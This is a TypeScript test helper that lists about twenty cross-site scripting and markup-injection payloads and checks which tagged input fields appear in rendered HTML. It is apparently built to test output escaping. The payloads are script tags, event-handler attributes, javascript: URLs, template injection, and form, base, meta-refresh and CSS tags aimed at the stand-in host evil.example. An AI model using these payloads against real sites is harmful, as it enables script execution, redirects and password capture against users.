const RUN = "window.__xss=1";

/** Texts that try to run as code: each shape breaks out of a different place in a page, script, style or document. */
export const SHAPES: readonly string[] = [
  `<script>${RUN}</script>`,
  `"><img src=x onerror="${RUN}">`,
  `'><svg onload='${RUN}'><animate onbegin=${RUN}>`,
  `</script><script>${RUN}</script>`,
  `</title></textarea></style></noscript></template></select><iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `javascript:${RUN}`,
  `{{constructor.constructor('${RUN}')()}}`,
  "${" + RUN + "}`;" + RUN + ";//`",
  `\\";${RUN};//\\';${RUN};//`,
  `\u2028${RUN}\u2029`,
  `<!--<script>${RUN}`,
  `]]><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `<a href="javascript:${RUN}">x</a><base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `</blockquote></style><style>@import "https://evil.example/";*{background:url(https://evil.example/)}</style>`,
  `<form action="https://evil.example/"><input name=password><button formaction="javascript:${RUN}">`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;script&#62;${RUN}`,
  `[x](javascript:${RUN}) ![x](https://evil.example/)`,
];

const markOf = (field: string): string => `[${field}]`;

/** All shapes in one text, with the name of its field. */
export const hostile = (field: string): string => `${markOf(field)} ${SHAPES.join(" ")}`;

/** The fields whose texts appear in a page or its scripts. */
export const shownFields = (fields: readonly string[], html: string): string[] =>
  fields.filter((field) => html.includes(markOf(field)));
